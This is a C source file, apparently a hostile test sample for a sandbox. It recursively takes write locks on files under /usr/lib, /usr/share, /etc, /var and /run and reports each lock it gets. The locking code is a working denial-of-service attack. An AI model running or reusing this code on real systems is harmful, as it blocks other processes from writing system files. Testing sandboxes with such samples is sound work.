/* Locks every file that it shares with others for ever: of the system, of its folder, and the devices. */
#include "lib/hostile.h"
#include <dirent.h>
#include <sys/file.h>

static int lock(const char *path) {
  struct flock whole = {.l_type = F_WRLCK};
  int file = open(path, O_RDWR | O_NONBLOCK);
  if (file >= 0 && !fcntl(file, F_SETLK, &whole)) return 1;
  return 0;
}

static void lock_all(const char *folder, int depth) {
  char path[4096];
  DIR *list = opendir(folder);
  for (struct dirent *entry; list && (entry = readdir(list));) {
    if (*entry->d_name == '.' || entry->d_type == DT_LNK) continue;
    snprintf(path, sizeof path, "%s/%s", folder, entry->d_name);
    if (entry->d_type == DT_DIR && depth > 0) lock_all(path, depth - 1);
    else if (entry->d_type == DT_REG && lock(path)) reached("a lock that keeps others from writing %s", path);
  }
  if (list) closedir(list);
}

int main(int argc, char **argv) {
  guard(argc, argv);
  for (const char *const *folder = (const char *const[]){"/usr/lib", "/usr/share", "/etc", "/var", "/run", NULL}; *folder; folder++)
    lock_all(*folder, 2);
  play_on(NULL);
}
